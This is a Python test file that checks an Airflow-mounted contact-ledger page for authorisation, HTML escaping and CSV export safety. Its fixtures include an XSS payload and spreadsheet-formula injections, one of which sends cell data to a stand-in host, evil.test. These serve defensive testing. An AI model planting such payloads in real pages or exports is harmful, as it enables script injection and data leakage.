@@ -1,0 +1,201 @@
+"""The Altcraft page over HTTP, mounted in Airflow's real API server, on a PostgreSQL ledger.
+
+The server runs in a subprocess (``tests.ui.airflow_server``): Airflow's own auth manager checks
+the tokens, with a user who may read only one of the two DAGs.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import subprocess
+import sys
+import time
+import uuid
+from collections.abc import Iterator
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+
+import pytest
+import requests
+import sqlalchemy as sa
+
+import altcraft
+from altcraft.ledger import Ledger, Outcome, RelaunchPolicy, RunRef, Scope, Settlement
+
+from .airflow_server import READABLE, RESTRICTED
+
+REPO = Path(__file__).resolve().parents[2]
+PG = "postgresql+psycopg2://postgres@127.0.0.1:5432"
+SECRET = "secret_dag"
+XSS = "<img src=x onerror=alert(1)>"
+FORMULAS = ('=HYPERLINK("http://evil.test/?"&A1,"x")', "+1+2", "-2+3", "@SUM(1)", "\tcmd", "\r=1")
+SCOPE, OLD = Scope("https://acme.altcraft.test", 7), Scope("https://acme.altcraft.test", 99)
+ONCE = RelaunchPolicy.parse("once")
+USERS = {"admin": "admin-pw", "viewer": "viewer-pw", RESTRICTED: "restricted-pw"}
+
+
+def _admin(statement: str) -> None:
+    engine = sa.create_engine(f"{PG}/postgres", isolation_level="AUTOCOMMIT")
+    with engine.connect() as conn:
+        conn.exec_driver_sql(statement)
+    engine.dispose()
+
+
+def _fill(ledger: Ledger) -> None:
+    """Both DAGs' run ``r1`` with hostile reasons and source keys; a contact both DAGs sent; and an
+    uncertain contact of another scenario whose only outcome is 40 days old."""
+    now = datetime.now(UTC)
+    for dag_id in (READABLE, SECRET):
+        run = RunRef.create(dag_id, "import_and_launch", "r1", 1)
+        sources = [XSS, *FORMULAS, f"{dag_id} row"]
+        items = [(f"email:{dag_id}-{n}@example.org", source) for n, source in enumerate(sources)]
+        claim = ledger.claim(SCOPE, run, items, ONCE, now=now)
+        texts = (XSS, *FORMULAS, f"why {dag_id} failed")
+        outcomes = (Outcome.LAUNCHED, Outcome.FAILED, Outcome.UNCERTAIN)
+        settled = {
+            key: Settlement(outcomes[n % 3], code=400, text=texts[n % len(texts)])
+            for n, key in enumerate(claim.to_send)
+        }
+        ledger.settle(SCOPE, run, claim, settled, now=now)
+        ledger.record(SCOPE, run, Outcome.REJECTED, [(None, f"{XSS}{dag_id}", 1, f"=1+1 {XSS}")])
+    for dag_id, outcome, relaunch in ((READABLE, Outcome.LAUNCHED, False), (SECRET, Outcome.FAILED, True)):
+        run = RunRef.create(dag_id, "import_and_launch", "r1", 1)
+        claim = ledger.claim(
+            SCOPE, run, [("email:shared@example.org", f"src {dag_id}")], ONCE, relaunch=relaunch
+        )
+        ledger.settle(
+            SCOPE,
+            run,
+            claim,
+            {k: Settlement(outcome, code=5, text=f"text of {dag_id}") for k in claim.to_send},
+        )
+    old, then = RunRef.create(READABLE, "import_and_launch", "old", 1), now - timedelta(days=40)
+    claim = ledger.claim(OLD, old, [("email:old@example.org", "old row")], ONCE, now=then)
+    ledger.settle(
+        OLD, old, claim, {k: Settlement(Outcome.UNCERTAIN, text="timeout") for k in claim.to_send}, now=then
+    )
+
+
+class Page:
+    """The running server: GET/POST the page's routes as one of the users."""
+
+    def __init__(self, url: str, tokens: dict[str, str]) -> None:
+        self.url, self.tokens = url, tokens
+
+    def get(self, path: str, user: str | None = "admin", **params: object) -> requests.Response:
+        headers = {"Authorization": f"Bearer {self.tokens[user]}"} if user else {}
+        return requests.get(f"{self.url}/altcraft{path}", params=params, headers=headers, timeout=60)
+
+    def search(self, text: str, user: str = "admin") -> requests.Response:
+        headers = {"Authorization": f"Bearer {self.tokens[user]}"}
+        return requests.post(f"{self.url}/altcraft/contact", data={"q": text}, headers=headers, timeout=60)
+
+
+def _free_port() -> int:
+    import socket
+
+    with socket.socket() as sock:
+        sock.bind(("127.0.0.1", 0))
+        return sock.getsockname()[1]
+
+
+@pytest.fixture(scope="module")
+def page(tmp_path_factory) -> Iterator[Page]:
+    name = f"altcraft_ui_app_{uuid.uuid4().hex[:10]}"
+    _admin(f"CREATE DATABASE {name}")
+    engine = sa.create_engine(f"{PG}/{name}")
+    home = tmp_path_factory.mktemp("airflow-ui-app")
+    (home / "dags").mkdir()
+    (home / "passwords.json").write_text(json.dumps(USERS))
+    env = {
+        **os.environ,
+        "PYTHONPATH": os.pathsep.join([str(REPO), str(Path(altcraft.__file__).parent.parent)]),
+        "AIRFLOW_HOME": str(home),
+        "AIRFLOW__CORE__DAGS_FOLDER": str(home / "dags"),
+        "AIRFLOW__CORE__LOAD_EXAMPLES": "False",
+        "AIRFLOW__DATABASE__SQL_ALCHEMY_CONN": f"sqlite:///{home}/airflow.db",
+        "AIRFLOW__CORE__AUTH_MANAGER": "tests.ui.airflow_server.PerDagAuthManager",
+        "AIRFLOW__CORE__SIMPLE_AUTH_MANAGER_USERS": f"admin:admin,viewer:viewer,{RESTRICTED}:viewer",
+        "AIRFLOW__CORE__SIMPLE_AUTH_MANAGER_PASSWORDS_FILE": str(home / "passwords.json"),
+        "AIRFLOW__API_AUTH__JWT_SECRET": uuid.uuid4().hex,
+        "AIRFLOW__API__SECRET_KEY": uuid.uuid4().hex,
+        "AIRFLOW_CONN_UI_LEDGER": f"postgresql://postgres@127.0.0.1:5432/{name}",
+        "AIRFLOW__ALTCRAFT__LEDGER_CONN_ID": "ui_ledger",
+    }
+    subprocess.run(
+        [sys.executable, "-m", "airflow", "db", "migrate"], env=env, check=True, capture_output=True
+    )
+    ledger = Ledger(engine)
+    ledger.ensure_schema()
+    _fill(ledger)
+    port = _free_port()
+    log = (home / "server.log").open("w")
+    server = subprocess.Popen(
+        [sys.executable, "-m", "tests.ui.airflow_server", str(port), READABLE, SECRET],
+        cwd=REPO, env=env, stdout=log, stderr=subprocess.STDOUT,
+    )  # fmt: skip
+    url = f"http://127.0.0.1:{port}"
+    try:
+        deadline = time.monotonic() + 180
+        while True:
+            assert server.poll() is None, (home / "server.log").read_text()
+            try:
+                requests.get(f"{url}/api/v2/monitor/health", timeout=5)
+                break
+            except requests.ConnectionError:
+                assert time.monotonic() < deadline, "the API server did not start"
+                time.sleep(0.5)
+        tokens = {
+            user: requests.post(
+                f"{url}/auth/token", json={"username": user, "password": password}, timeout=60
+            ).json()["access_token"]
+            for user, password in USERS.items()
+        }
+        yield Page(url, tokens)
+    finally:
+        server.terminate()
+        server.wait(30)
+        log.close()
+        engine.dispose()
+        _admin(f"DROP DATABASE IF EXISTS {name} WITH (FORCE)")
+
+
+RUN = {"dag_id": READABLE, "run_id": "r1"}
+
+
+def test_every_route_requires_a_user_and_read_access_to_the_dag(page):
+    for path in ("/", "/run", "/run.csv", "/contact", "/plan", "/static/altcraft.css"):
+        assert page.get(path, user=None, **RUN).status_code == 401, path
+    secret = {"dag_id": SECRET, "run_id": "r1"}
+    for path in ("/run", "/run.csv"):
+        assert page.get(path, RESTRICTED, **secret).status_code == 403, path
+        assert page.get(path, RESTRICTED, **RUN).status_code == 200, path
+    assert page.get("/plan", RESTRICTED, action="dry_run", **RUN).status_code == 403
+    assert page.get("/plan", "viewer", action="dry_run", **RUN).status_code == 403
+
+
+def test_ledger_texts_are_escaped_on_every_page(page):
+    texts = [
+        page.get("/run", **RUN).text,
+        page.get("/run", outcome=XSS, **RUN).text,
+        page.get("/").text,
+        page.search(XSS).text,
+        page.search("shared@example.org").text,
+    ]
+    for html in texts:
+        assert "onerror" not in html or "&lt;img src=x onerror=alert(1)&gt;" in html
+        assert "<img" not in html
+
+
+def test_the_csv_export_neutralises_formulas_and_masks_contacts(page):
+    answer = page.get("/run.csv", **RUN)
+    assert answer.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(answer.text)))
+    assert len(rows) == 8 + 1 + 1  # the run's contacts, its rejected row, the shared contact
+    cells = [cell for row in rows for cell in row.values()]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert {row["source_key"] for row in rows} >= {"'" + text for text in FORMULAS}  # kept, as text
+    assert "@example.org" not in answer.text
